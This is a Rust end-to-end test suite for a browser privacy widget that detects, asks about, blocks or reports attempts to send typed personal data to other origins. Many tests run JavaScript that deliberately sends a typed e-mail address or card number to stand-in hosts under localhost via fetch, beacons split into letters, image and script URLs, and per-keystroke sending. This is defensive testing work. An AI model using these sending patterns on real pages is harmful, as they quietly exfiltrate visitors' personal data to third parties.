//! What leaves the page: the natives look untouched, nothing is lost or reordered, and what was typed does not
//! leave unseen.
//!
//! Every destination here is a name of its own below `localhost`, so that each is a cause of its own.

use e2e::{Key, Page, STRICT, Value, Visitor, in_browsers, json, leaks};
use std::time::Duration;

in_browsers! {
    both {
        natives_look_untouched
        nothing_is_lost_or_reordered_while_the_chunk_is_on_its_way
        a_request_waits_for_the_visitors_answer
        it_goes_on_where_a_page_patches_fetch_before_and_after
        leaks_are_told_and_innocent_traffic_is_not
    }
    chrome {
        what_was_sent_may_go_where_the_policy_says
        two_forms_with_the_same_values
        eight_fields_filled_at_once
        a_value_over_a_hundred_beacons
        bodies_too_large_to_look_into
        natives_are_given_back
        switched_off_nothing_is_patched
        without_the_chunk_everything_goes_on
        where_nobody_can_be_asked_it_goes
        nothing_loads_until_something_is_typed
        one_question_for_one_cause
        nobody_is_asked_while_they_type
        allowed_for_the_visit_holds_on_the_next_page
        it_is_stopped_and_told_where_the_site_wants_it_so
        it_goes_and_is_told_where_the_site_wants_it_so
        what_cannot_wait_is_stopped_and_told
        what_fails_fails_as_the_network_does
        the_record_says_what_was_about_to_leave
        a_form_that_was_reviewed_is_not_asked_about
        the_question_is_there_for_the_keyboard
        it_works_under_a_strict_policy
        what_the_visitor_deleted_is_forgotten
        fields_are_watched_that_the_site_or_the_page_calls_personal
        what_was_reset_or_removed_is_forgotten
    }
}

pub(crate) const EMAIL: &str = "jane.doe@shop-visitor.example";

async fn leaks_are_told_and_innocent_traffic_is_not(visitor: &Visitor) {
    leaks::open(visitor, "block").await;
    let names = |cases: &[leaks::Case], told: &[bool], wanted: bool| -> Vec<&str> {
        cases.iter().zip(told).filter(|(_, told)| **told != wanted).map(|(case, _)| case.name).collect()
    };
    let told = leaks::told(visitor, "leak", leaks::LEAKS).await;
    let missed = names(leaks::LEAKS, &told, true);
    assert!(missed.is_empty(), "{missed:?}");
    let sent = visitor.site().other.requests().into_iter().filter(|request| request.method != "OPTIONS");
    let sent: Vec<String> = sent.map(|request| request.path + "?" + &request.query).collect();
    assert!(sent.is_empty(), "{sent:?}");
    leaks::open(visitor, "block").await;
    let told = leaks::told(visitor, "fine", leaks::INNOCENT).await;
    let alarms = names(leaks::INNOCENT, &told, false);
    assert!(alarms.is_empty(), "{alarms:?}\n{}", visitor.evaluates("JSON.stringify(events('leak'))").await);
}

/// A page whose form the page itself sends, as single-page applications do.
fn own_sending(visitor: &Visitor, forms: &str) -> Page {
    let pay = visitor.site().other.origin("pay.localhost");
    let script = "<script>addEventListener('submit', event => event.preventDefault())</script>";
    Page::new(forms.to_owned()).after_loader(script).configured(|config| {
        let declared =
            json!([{ "origin": pay, "data": ["contact", "financial", "identity"], "when": "after-submit" }]);
        config["egress"] = json!({ "mode": "block", "destinations": declared });
    })
}

async fn what_was_sent_may_go_where_the_policy_says(visitor: &Visitor) {
    let form = r#"<form data-privacy-form="public"><label>E-mail <input name="email" type="email"></label><button>Go</button></form>"#;
    visitor.site().page("/", own_sending(visitor, form));
    types_an_address(visitor, "/").await;
    let send = |name: &str, path: &str| {
        format!(
            "fetch({}, {{ method: 'POST', body: '{EMAIL}' }}).catch(() => {{}})",
            json!(elsewhere(visitor, name, path))
        )
    };
    visitor.runs(&send("pay", "early")).await;
    visitor.sees("events('leak').length === 1").await;
    visitor.finds("events('leak')[0].detail.policy", json!("too-early")).await;
    visitor.presses("Go").await;
    visitor.sees("heading('Before you send')").await;
    visitor.presses("Send").await;
    visitor.sees("events('sent').length === 1").await;
    visitor.runs(&send("pay", "after")).await;
    arrives(visitor, "after");
    // Who was not named gets nothing then, either.
    visitor.runs(&send("x", "never")).await;
    visitor.sees("events('leak').length === 2").await;
    assert_eq!(arrived(visitor), ["after"]);
    // What is typed anew is unsent again.
    visitor.types("[name=email]", "x").await;
    visitor.runs(&send("pay", "again").replace(EMAIL, &format!("{EMAIL}x"))).await;
    visitor.rests().await;
    assert_eq!(arrived(visitor), ["after"]);
}

async fn two_forms_with_the_same_values(visitor: &Visitor) {
    let form = |id: &str| {
        format!(
            r#"<form id="{id}" data-privacy-form="public"><label>E-mail <input name="{id}" type="email"></label><button>Go {id}</button></form>"#
        )
    };
    visitor.site().page("/", own_sending(visitor, &(form("one") + &form("two"))));
    visitor.visits("/").await;
    visitor.presses("Reject all").await;
    visitor.sees("!banner()").await;
    visitor.types("[name=one]", EMAIL).await;
    visitor.types("[name=two]", EMAIL).await;
    visitor.sees(leaks::LOADED).await;
    visitor.presses("Go one").await;
    visitor.sees("heading('Before you send')").await;
    visitor.presses("Send").await;
    visitor.sees("events('sent').length === 1").await;
    let pay = json!(elsewhere(visitor, "pay", "after"));
    visitor.runs(&format!("fetch({pay}, {{ method: 'POST', body: '{EMAIL}' }})")).await;
    arrives(visitor, "after");
    visitor.finds("events('leak').length", json!(0)).await;
    // Emptied in one, it is still in the other.
    visitor.clears("[name=one]").await;
    visitor.rests().await;
    let other = json!(elsewhere(visitor, "x", "never"));
    visitor.runs(&format!("fetch({other}, {{ method: 'POST', body: '{EMAIL}' }}).catch(() => {{}})")).await;
    visitor.sees("events('leak').length === 1").await;
}

async fn eight_fields_filled_at_once(visitor: &Visitor) {
    let fields = [
        "given-name",
        "family-name",
        "email",
        "tel",
        "street-address",
        "address-level2",
        "postal-code",
        "cc-number",
    ];
    let form: String = fields
        .iter()
        .map(|name| format!(r#"<label>{name} <input name="{name}" autocomplete="{name}"></label>"#))
        .collect();
    let form = format!(r#"<form data-privacy-form="order">{form}</form>"#);
    visitor
        .site()
        .page("/", Page::new(form).configured(|config| config["egress"] = json!({ "mode": "block" })));
    visitor.visits("/").await;
    visitor.presses("Reject all").await;
    visitor.sees("!banner()").await;
    visitor
        .runs(
            "const values = ['Marguerite', 'Lindqvist', 'marguerite@lindqvist.example', '+46 8 123 456 78', 'Storgatan 12', 'Uppsala', '753 31', '4111 1111 1111 1111'];
             all('input').forEach((input, at) => { input.value = values[at]; for (const type of ['input', 'change']) input.dispatchEvent(new Event(type, { bubbles: true })); });",
        )
        .await;
    leaks::is_watched(visitor).await;
    for (name, value) in [
        ("a", "marguerite@lindqvist.example"),
        ("b", "4111111111111111"),
        ("c", "Storgatan 12"),
        ("d", "Marguerite Lindqvist"),
    ] {
        let address = json!(elsewhere(visitor, name, "x"));
        visitor.runs(&format!("window.outcome = ''; fetch({address}, {{ method: 'POST', body: {} }}).then(() => window.outcome = 'went', () => window.outcome = 'stopped')", json!(value))).await;
        visitor.sees("outcome").await;
        visitor.finds("outcome", json!("stopped")).await;
    }
}

async fn a_value_over_a_hundred_beacons(visitor: &Visitor) {
    visitor.site().page("/", page("report"));
    types_an_address(visitor, "/").await;
    let long: String = (0..25).map(|at| format!("q{at:03}")).collect();
    visitor.types("[name=note]", &long).await;
    let address = json!(elsewhere(visitor, "a", "pieces"));
    visitor
        .runs(&format!("for (const letter of {}) navigator.sendBeacon({address}, letter)", json!(long)))
        .await;
    visitor.sees("events('leak').length === 1").await;
    visitor.finds("events('leak')[0].detail.how.includes('split')", json!(true)).await;
}

async fn bodies_too_large_to_look_into(visitor: &Visitor) {
    visitor.site().page("/", page("report"));
    types_an_address(visitor, "/").await;
    let [large, bomb] = ["a", "b"].map(|name| json!(elsewhere(visitor, name, "large")));
    // Given up at once: what counts is what was made of them.
    visitor
        .runs(&format!(
            "const post = body => ({{ method: 'POST', body, signal: AbortSignal.abort() }});
             window.outcomes = [];
             const note = name => () => outcomes.push(name);
             fetch({large}, post(new Uint8Array(50_000_000))).catch(note('large'));
             new Response(new Blob([new Uint8Array(50_000_000)]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer()
               .then(bomb => fetch({bomb}, post(bomb))).catch(note('bomb'));"
        ))
        .await;
    visitor.sees("outcomes.length === 2").await;
    let told = visitor.events_of("leak").await;
    assert!(told.iter().all(|one| one["checked"] == json!(false) && one["why"] == "too-large"), "{told:?}");
    assert_eq!(told.len(), 2, "{told:?}");
}

/// A page with the order form, its banner answered.
pub(crate) fn page(mode: &str) -> Page {
    let mode = mode.to_owned();
    Page::of("order.html").configured(move |config| config["egress"] = json!({ "mode": mode }))
}

/// Goes there, has no banner in the way, and types an address once everything it needs is there.
pub(crate) async fn types_an_address(visitor: &Visitor, path: &str) {
    visitor.visits(path).await;
    if visitor.sees_now("banner()").await {
        visitor.presses("Reject all").await;
        visitor.sees("!banner()").await;
    }
    visitor.types("[name=email]", EMAIL).await;
    leaks::is_watched(visitor).await;
}

/// Another company's address, of a name of its own.
pub(crate) fn elsewhere(visitor: &Visitor, name: &str, path: &str) -> String {
    visitor.site().other.origin(&format!("{name}.localhost")) + "/receive/" + path
}

/// Waits until something has arrived at the other company.
pub(crate) fn arrives(visitor: &Visitor, path: &str) -> e2e::Received {
    let wanted = format!("/receive/{path}");
    let found = visitor
        .site()
        .other
        .wait_for(|request| request.path == wanted && request.method != "OPTIONS", Duration::from_secs(20));
    assert!(found.is_some(), "{path} did not arrive");
    found.unwrap()
}

pub(crate) fn arrived(visitor: &Visitor) -> Vec<String> {
    let requests = visitor.site().other.requests().into_iter();
    let sent =
        requests.filter(|request| request.path.starts_with("/receive/") && request.method != "OPTIONS");
    sent.map(|request| request.path.replace("/receive/", "")).collect()
}

pub(crate) async fn answers(visitor: &Visitor, name: &str) {
    visitor.sees("one('dialog.leak[open]')").await;
    visitor.presses(name).await;
}

async fn natives_look_untouched(visitor: &Visitor) {
    let page = page("ask").before_loader(r#"<script src="/fixtures/probe-natives.js"></script>"#);
    visitor.site().page("/", page);
    visitor.visits("/").await;
    let differences = "(async () => { const [was, is, did, does] = [before.look, before.look_again(), await before.odd, await before.odd_again()];
        const differ = (a, b) => Object.keys({ ...a, ...b }).filter(key => JSON.stringify(a[key]) !== JSON.stringify(b[key]))
            .map(key => key + ': ' + JSON.stringify(a[key]) + ' → ' + JSON.stringify(b[key]));
        return [...differ(was, is), ...differ(did, does)]; })()";
    visitor.finds(differences, json!([])).await;
    visitor.finds("before.fetch === fetch", json!(false)).await;
    if visitor.sees_now("banner()").await {
        visitor.presses("Reject all").await;
    }
    visitor.types("[name=email]", EMAIL).await;
    leaks::is_watched(visitor).await;
    visitor.finds(differences, json!([])).await;
}

async fn natives_are_given_back(visitor: &Visitor) {
    let page = page("ask").before_loader(r#"<script src="/fixtures/probe-natives.js"></script>"#);
    visitor.site().page("/", page);
    types_an_address(visitor, "/").await;
    visitor.runs("window.held = fetch; privacyWidget.destroy()").await;
    visitor.finds("before.fetch === fetch", json!(true)).await;
    visitor.finds("(now => Object.keys(before.look).filter(key => JSON.stringify(before.look[key]) !== JSON.stringify(now[key])))(before.look_again())", json!([])).await;
    // What the page has kept of it steps aside.
    let address = elsewhere(visitor, "a", "kept");
    visitor.runs(&format!("held({}, {{ method: 'POST', body: '{EMAIL}' }})", json!(address))).await;
    arrives(visitor, "kept");
}

async fn switched_off_nothing_is_patched(visitor: &Visitor) {
    let page = page("off").before_loader(r#"<script src="/fixtures/probe-natives.js"></script>"#);
    visitor.site().page("/", page);
    visitor.visits("/").await;
    visitor.finds("before.fetch === fetch", json!(true)).await;
    visitor.presses("Reject all").await;
    visitor.types("[name=email]", EMAIL).await;
    visitor.rests().await;
    visitor.finds(leaks::LOADED, json!(false)).await;
}

async fn nothing_loads_until_something_is_typed(visitor: &Visitor) {
    visitor.site().page("/", page("ask"));
    visitor.visits("/").await;
    visitor.presses("Reject all").await;
    visitor.sees("!banner()").await;
    let address = elsewhere(visitor, "a", "idle");
    visitor.runs(&format!("fetch({}, {{ method: 'POST', body: '{EMAIL}' }})", json!(address))).await;
    arrives(visitor, "idle");
    visitor.finds(leaks::LOADED, json!(false)).await;
    visitor.types("[name=email]", "j").await;
    visitor.sees(leaks::LOADED).await;
}

/// Everything that can wait, in one go.
fn sends_everything(visitor: &Visitor) -> String {
    let [fetched, posted, beacon, image] =
        ["fetched", "posted", "beacon", "image"].map(|path| json!(elsewhere(visitor, "a", path)).to_string());
    format!(
        "window.order = [];
         fetch({fetched}).then(() => order.push('fetched'));
         const xhr = new XMLHttpRequest(); xhr.onload = () => order.push('posted'); xhr.open('POST', {posted}); xhr.send('a');
         order.push(navigator.sendBeacon({beacon}, 'b'));
         const image = new Image(); image.onerror = () => order.push('image'); image.src = {image};
         const socket = new WebSocket('wss://socket.example/'); socket.send('1'); socket.send('2'); socket.send('3');"
    )
}

async fn nothing_is_lost_or_reordered_while_the_chunk_is_on_its_way(visitor: &Visitor) {
    let page = page("ask").before_loader(r#"<script src="/fixtures/socket.js"></script>"#);
    visitor.site().page("/", page);
    visitor.site().shop.hold("*/split_egress.wasm");
    visitor.visits("/").await;
    visitor.presses("Reject all").await;
    visitor.sees("!banner()").await;
    visitor.types("[name=email]", "jane.d").await;
    visitor.runs(&sends_everything(visitor)).await;
    visitor.rests().await;
    visitor.finds("[order, frames_sent]", json!([[true], []])).await;
    assert_eq!(arrived(visitor), Vec::<String>::new());
    visitor.site().shop.release("*/split_egress.wasm");
    for path in ["fetched", "posted", "beacon", "image"] {
        arrives(visitor, path);
    }
    visitor.sees("order.length === 4").await;
    visitor.finds("frames_sent", json!(["1", "2", "3"])).await;
    let mut all = arrived(visitor);
    all.sort();
    assert_eq!(all, ["beacon", "fetched", "image", "posted"], "each once");
    visitor.finds("[seen.uncaught, seen.errors]", json!([[], []])).await;
}

async fn without_the_chunk_everything_goes_on(visitor: &Visitor) {
    let page = page("ask").before_loader(r#"<script src="/fixtures/socket.js"></script>"#);
    visitor.site().page("/", page);
    visitor.site().shop.fail("*/split_egress.wasm", 404);
    visitor.visits("/").await;
    visitor.presses("Reject all").await;
    visitor.sees("!banner()").await;
    visitor.types("[name=email]", "jane.d").await;
    visitor.runs(&sends_everything(visitor)).await;
    let error = visitor.is_told_of_one_error().await;
    assert_eq!(error["code"], "egress");
    for path in ["fetched", "posted", "beacon", "image"] {
        arrives(visitor, path);
    }
    visitor.finds("frames_sent", json!(["1", "2", "3"])).await;
}

/// The inspection has come; what the question is shown with has not.
async fn where_nobody_can_be_asked_it_goes(visitor: &Visitor) {
    visitor.site().page("/", page("ask"));
    visitor.site().shop.fail("*/split_warnings.wasm", 404);
    types_an_address(visitor, "/").await;
    let leak = json!(elsewhere(visitor, "a", "leak"));
    visitor.runs(&format!("fetch({leak}, {{ method: 'POST', body: '{EMAIL}' }})")).await;
    let error = visitor.is_told_of_one_error().await;
    assert_eq!(error["code"], "load");
    arrives(visitor, "leak");
}

async fn it_goes_on_where_a_page_patches_fetch_before_and_after(visitor: &Visitor) {
    let wrap = |name: &str| {
        format!(
            "<script>{{ const inner = fetch; window.fetch = function fetch(...args) {{ if (/receive/.test(args[0])) (window.calls ||= []).push('{name}'); return inner.apply(this, args); }}; }}</script>"
        )
    };
    let page = page("ask").before_loader(&wrap("before")).after_loader(&wrap("after"));
    visitor.site().page("/", page);
    types_an_address(visitor, "/").await;
    let leak = json!(elsewhere(visitor, "a", "leak"));
    let clean = json!(elsewhere(visitor, "b", "clean"));
    visitor.runs(&format!("window.calls = []; fetch({clean}); fetch({leak}, {{ method: 'POST', body: '{EMAIL}' }}).catch(error => window.failed = error.name)")).await;
    arrives(visitor, "clean");
    visitor.finds("calls", json!(["after", "before", "after"])).await;
    answers(visitor, "Block").await;
    visitor.sees("window.failed === 'TypeError'").await;
    assert_eq!(arrived(visitor), ["clean"]);
    visitor.runs("privacyWidget.destroy(); window.calls = []").await;
    visitor.runs(&format!("fetch({leak}, {{ method: 'POST', body: '{EMAIL}' }})")).await;
    arrives(visitor, "leak");
    visitor.finds("calls", json!(["after", "before"])).await;
}

async fn a_request_waits_for_the_visitors_answer(visitor: &Visitor) {
    visitor.site().page("/", page("ask"));
    types_an_address(visitor, "/").await;
    let address = json!(elsewhere(visitor, "a", "track"));
    let send = format!(
        "window.outcome = 'waits'; fetch({address}, {{ method: 'POST', body: JSON.stringify({{ mail: '{EMAIL}' }}) }}).then(() => window.outcome = 'went', error => window.outcome = error.name)"
    );
    visitor.runs(&send).await;
    visitor.sees("one('dialog.leak[open]')").await;
    visitor
        .finds("[outcome, one('dialog.leak').getAttribute('role')]", json!(["waits", "alertdialog"]))
        .await;
    let text = visitor.evaluates("words(one('dialog.leak'))").await;
    let text = text.as_str().unwrap();
    assert!(text.contains("E-mail") && text.contains("a.localhost") && !text.contains(EMAIL), "{text}");
    assert_eq!(arrived(visitor), Vec::<String>::new());
    visitor.presses("Block").await;
    visitor.sees("outcome === 'TypeError' && !modal()").await;
    // Blocked here, it is not asked about again.
    visitor.runs(&send).await;
    visitor.sees("outcome === 'TypeError'").await;
    assert_eq!(arrived(visitor), Vec::<String>::new());
    let other = json!(elsewhere(visitor, "b", "track"));
    visitor.runs(&send.replace(&address.to_string(), &other.to_string())).await;
    answers(visitor, "Allow once").await;
    visitor.sees("outcome === 'went'").await;
    assert!(arrives(visitor, "track").text().contains(EMAIL));
    let told: Vec<Value> = visitor.events_of("leak").await;
    let verdicts: Vec<&str> = told.iter().filter_map(|one| one["verdict"].as_str()).collect();
    assert_eq!(verdicts, ["asked", "blocked", "asked", "allowed"]);
    let first = &told[0];
    assert_eq!(
        [&first["channel"], &first["kinds"], &first["checked"], &first["policy"]],
        [&json!("fetch"), &json!(["email"]), &json!(true), &json!("not-named")]
    );
    assert!(!json!(told).to_string().contains(EMAIL));
    visitor
        .finds(
            "JSON.stringify([{ ...sessionStorage }, { ...localStorage }, document.cookie]).includes('jane')",
            json!(false),
        )
        .await;
}

async fn one_question_for_one_cause(visitor: &Visitor) {
    visitor.site().page("/", page("ask"));
    types_an_address(visitor, "/").await;
    let address = json!(elsewhere(visitor, "a", "many"));
    visitor.runs(&format!("window.failed = 0; for (let i = 0; i < 100; i++) fetch({address}, {{ method: 'POST', body: '{EMAIL} ' + i }}).catch(() => failed++)")).await;
    visitor.sees("one('dialog.leak[open]')").await;
    visitor.finds("all('dialog[open]').length", json!(1)).await;
    visitor.presses("Block").await;
    visitor.sees("failed === 100 && !modal()").await;
    visitor.finds("events('leak').map(event => event.detail.verdict)", json!(["asked", "blocked"])).await;
}

async fn nobody_is_asked_while_they_type(visitor: &Visitor) {
    visitor.site().page("/", page("ask"));
    types_an_address(visitor, "/").await;
    // So that everything is there that shows a question.
    let [first, second] = ["a", "b"].map(|name| json!(elsewhere(visitor, name, "typing")));
    visitor.runs(&format!("fetch({first} + '?{EMAIL}').catch(() => {{}})")).await;
    answers(visitor, "Block").await;
    visitor.sees("!modal()").await;
    // A page that sends on every key.
    visitor
        .runs(&format!(
            "const field = one('[name=email]'); field.addEventListener('input', () => fetch({second} + '?' + field.value).catch(() => {{}})); field.value = ''; field.focus()"
        ))
        .await;
    let asked_early = visitor
        .evaluates(&format!(
            "(async () => {{ const field = one('[name=email]'); for (const letter of '{EMAIL}') {{ field.value += letter; field.dispatchEvent(new Event('input', {{ bubbles: true }})); await new Promise(requestAnimationFrame); if (modal()) return true; }} return false; }})()"
        ))
        .await;
    assert_eq!(asked_early, json!(false));
    visitor.sees("one('dialog.leak[open]')").await;
    visitor.finds("[one('[name=email]').value, events('leak').length > 2]", json!([EMAIL, true])).await;
}

async fn allowed_for_the_visit_holds_on_the_next_page(visitor: &Visitor) {
    visitor.site().page("/", page("ask"));
    types_an_address(visitor, "/").await;
    let address = json!(elsewhere(visitor, "a", "visit"));
    let send = format!("fetch({address}, {{ method: 'POST', body: '{EMAIL}' }})");
    visitor.runs(&send).await;
    answers(visitor, "Allow for this visit").await;
    arrives(visitor, "visit");
    visitor.site().other.clear();
    // On every one that follows.
    for _ in 0..2 {
        visitor.site().other.clear();
        types_an_address(visitor, "/").await;
        visitor.runs(&send).await;
        arrives(visitor, "visit");
        visitor.finds("!!modal()", json!(false)).await;
    }
}

async fn it_is_stopped_and_told_where_the_site_wants_it_so(visitor: &Visitor) {
    visitor.site().page("/", page("block"));
    types_an_address(visitor, "/").await;
    let address = json!(elsewhere(visitor, "a", "stop"));
    visitor.runs(&format!("for (let i = 0; i < 5; i++) fetch({address}, {{ method: 'POST', body: '{EMAIL}' }}).catch(error => window.outcome = error.name)")).await;
    visitor.sees("window.outcome === 'TypeError' && words(one('.told')).includes('Stopped')").await;
    visitor
        .finds(
            "[events('leak').map(event => event.detail.verdict), one('.told').querySelectorAll('p').length]",
            json!([["blocked"], 1]),
        )
        .await;
    visitor.presses("Close").await;
    visitor.sees("!one('.told')").await;
    assert_eq!(arrived(visitor), Vec::<String>::new());
}

async fn it_goes_and_is_told_where_the_site_wants_it_so(visitor: &Visitor) {
    visitor.site().page("/", page("report"));
    types_an_address(visitor, "/").await;
    let address = json!(elsewhere(visitor, "a", "tell"));
    visitor.runs(&format!("fetch({address}, {{ method: 'POST', body: '{EMAIL}' }})")).await;
    arrives(visitor, "tell");
    visitor.sees("words(one('.told')).includes('Sent without asking you')").await;
    visitor.finds("events('leak').map(event => event.detail.verdict)", json!(["passed"])).await;
}

async fn what_cannot_wait_is_stopped_and_told(visitor: &Visitor) {
    visitor.site().page("/", page("ask"));
    visitor.site().page("/next", page("ask"));
    types_an_address(visitor, "/").await;
    let address = json!(elsewhere(visitor, "a", "sync"));
    visitor.runs(&format!("const xhr = new XMLHttpRequest(); xhr.open('POST', {address}, false); try {{ xhr.send('{EMAIL}') }} catch (error) {{ window.outcome = error.name }}")).await;
    visitor.finds("outcome", json!("NetworkError")).await;
    visitor.sees("words(one('.told')).includes('Stopped')").await;
    visitor.presses("Close").await;
    let beacon = json!(elsewhere(visitor, "b", "unload"));
    visitor
        .runs(&format!("addEventListener('pagehide', () => navigator.sendBeacon({beacon}, '{EMAIL}'))"))
        .await;
    visitor.visits("/next").await;
    visitor.sees("words(one('.told')).includes('b.localhost')").await;
    assert_eq!(arrived(visitor), Vec::<String>::new());
    visitor.presses("Close").await;
    visitor.visits("/next").await;
    visitor.rests().await;
    visitor.finds("!!one('.told')", json!(false)).await;
}

async fn what_fails_fails_as_the_network_does(visitor: &Visitor) {
    visitor.site().page("/", page("block"));
    types_an_address(visitor, "/").await;
    let at = |name: &str| json!(elsewhere(visitor, name, name)).to_string();
    visitor.runs(&format!(
        "window.seen_here = [];
         const note = name => event => seen_here.push(name + ' ' + event.type);
         const xhr = new XMLHttpRequest();
         for (const type of ['readystatechange', 'load', 'error', 'loadend']) xhr.addEventListener(type, () => seen_here.push('xhr ' + type + xhr.readyState + xhr.status));
         xhr.open('POST', {}); xhr.send('{EMAIL}');
         const image = new Image(); image.onerror = note('image'); image.onload = note('image'); image.src = {} + '?{EMAIL}';
         const source = new EventSource({} + '?{EMAIL}'); source.onerror = note('source');
         const script = document.createElement('script'); script.onerror = note('script'); script.src = {} + '?{EMAIL}'; document.head.append(script);",
        at("a"), at("b"), at("c"), at("d"),
    )).await;
    visitor.sees("['image error', 'source error', 'script error', 'xhr loadend40'].every(one => seen_here.includes(one))").await;
    visitor
        .finds(
            "seen_here.filter(one => one.startsWith('xhr'))",
            json!(["xhr readystatechange10", "xhr readystatechange40", "xhr error40", "xhr loadend40"]),
        )
        .await;
    assert_eq!(arrived(visitor), Vec::<String>::new());
}

async fn the_record_says_what_was_about_to_leave(visitor: &Visitor) {
    visitor.site().page("/", page("ask"));
    types_an_address(visitor, "/").await;
    let address = json!(elsewhere(visitor, "a", "log"));
    visitor.runs(&format!("fetch({address}, {{ method: 'POST', body: '{EMAIL}' }}).catch(() => {{}})")).await;
    answers(visitor, "Block").await;
    visitor.sees("!modal()").await;
    for _ in 0..2 {
        visitor.runs("privacyWidget.open('record')").await;
        visitor.sees("heading('What was about to leave on this visit (1)')").await;
        let text = visitor.evaluates("words(one('dialog.record'))").await;
        let text = text.as_str().unwrap();
        assert!(text.contains("a.localhost") && text.contains("Stopped") && text.contains("fetch"), "{text}");
        assert!(!text.contains(EMAIL), "{text}");
        // On the visit's next page, too, before anything is typed there.
        visitor.comes_back().await;
    }
}

async fn a_form_that_was_reviewed_is_not_asked_about(visitor: &Visitor) {
    let body = e2e::fixture("order.html").replace("/receive/order", &elsewhere(visitor, "pay", "order"));
    visitor.site().page("/", Page::new(body));
    visitor.visits("/").await;
    visitor.presses("Reject all").await;
    visitor.sees("!banner()").await;
    visitor.fills_in_the_order().await;
    visitor.types("[name=card]", "4111 1111 1111 1111").await;
    visitor.sees(leaks::LOADED).await;
    visitor.presses("Order now").await;
    visitor.sees("heading('Before you send')").await;
    visitor.presses("Send").await;
    assert_eq!(arrives(visitor, "order").field("email").as_deref(), Some("ada@example.com"));
}

async fn the_question_is_there_for_the_keyboard(visitor: &Visitor) {
    visitor.site().page("/", page("ask"));
    types_an_address(visitor, "/").await;
    let address = json!(elsewhere(visitor, "a", "keys"));
    visitor.runs("one('[name=note]').focus()").await;
    visitor
        .runs(&format!(
            "fetch({address}, {{ method: 'POST', body: '{EMAIL}' }}).catch(() => window.outcome = 'failed')"
        ))
        .await;
    visitor.sees("one('dialog.leak[open]') && within(focused(), one('dialog.leak'))").await;
    // Somebody who goes on typing answers nothing.
    visitor.types_here(" n").await;
    visitor.finds("!!one('dialog.leak[open]')", json!(true)).await;
    visitor.hits(&[Key::Escape]).await;
    visitor.sees("window.outcome === 'failed' && focused() === one('[name=note]')").await;
}

async fn it_works_under_a_strict_policy(visitor: &Visitor) {
    let connect = "; connect-src 'self' http://*.localhost:*";
    let page =
        Page::of("order.html").config_at("/privacy.json").header((STRICT.0, &[STRICT.1, connect].concat()));
    visitor.site().configuration("/privacy.json", &e2e::usual());
    visitor.site().page("/", page);
    types_an_address(visitor, "/").await;
    let address = json!(elsewhere(visitor, "a", "strict"));
    visitor
        .runs(&format!(
            "fetch({address}, {{ method: 'POST', body: '{EMAIL}' }}).catch(() => window.outcome = 'failed')"
        ))
        .await;
    answers(visitor, "Block").await;
    visitor.sees("window.outcome === 'failed'").await;
    assert_eq!(arrived(visitor), Vec::<String>::new());
}

async fn fields_are_watched_that_the_site_or_the_page_calls_personal(visitor: &Visitor) {
    let body = r#"<input id="plain"><input id="marked" data-privacy-field="email"><input id="own" autocomplete="email">"#;
    visitor.site().page(
        "/configured",
        Page::new(body).configured(|config| config["egress"] = json!({ "mode": "block" })),
    );
    visitor.site().page("/silent", Page::new(body));
    for (path, field, watched) in [
        ("/configured", "plain", false),
        ("/configured", "marked", true),
        ("/configured", "own", true),
        ("/silent", "own", false),
        ("/silent", "marked", true),
    ] {
        visitor.visits(path).await;
        visitor.runs("privacyWidget.rejectAll()").await;
        visitor.sees("!banner()").await;
        visitor.types(&format!("#{field}"), EMAIL).await;
        if watched {
            leaks::is_watched(visitor).await;
        } else {
            visitor.rests().await;
        }
        assert_eq!(visitor.sees_now(leaks::LOADED).await, watched, "{path} {field}");
    }
}

async fn what_was_reset_or_removed_is_forgotten(visitor: &Visitor) {
    visitor.site().page("/", page("block"));
    for gone in ["one('#order').reset()", "one('#order').remove()", "one('[name=email]').remove()"] {
        types_an_address(visitor, "/").await;
        visitor.runs(gone).await;
        visitor.rests().await;
        let address = json!(elsewhere(visitor, "a", "forgotten"));
        visitor.site().other.clear();
        visitor.runs(&format!("fetch({address}, {{ method: 'POST', body: '{EMAIL}' }})")).await;
        arrives(visitor, "forgotten");
        visitor.finds("events('leak').length", json!(0)).await;
    }
}

async fn what_the_visitor_deleted_is_forgotten(visitor: &Visitor) {
    visitor.site().page("/", page("ask"));
    types_an_address(visitor, "/").await;
    visitor.clears("[name=email]").await;
    visitor.rests().await;
    let address = json!(elsewhere(visitor, "a", "deleted"));
    visitor.runs(&format!("fetch({address}, {{ method: 'POST', body: '{EMAIL}' }})")).await;
    arrives(visitor, "deleted");
    visitor.finds("events('leak').length", json!(0)).await;
}
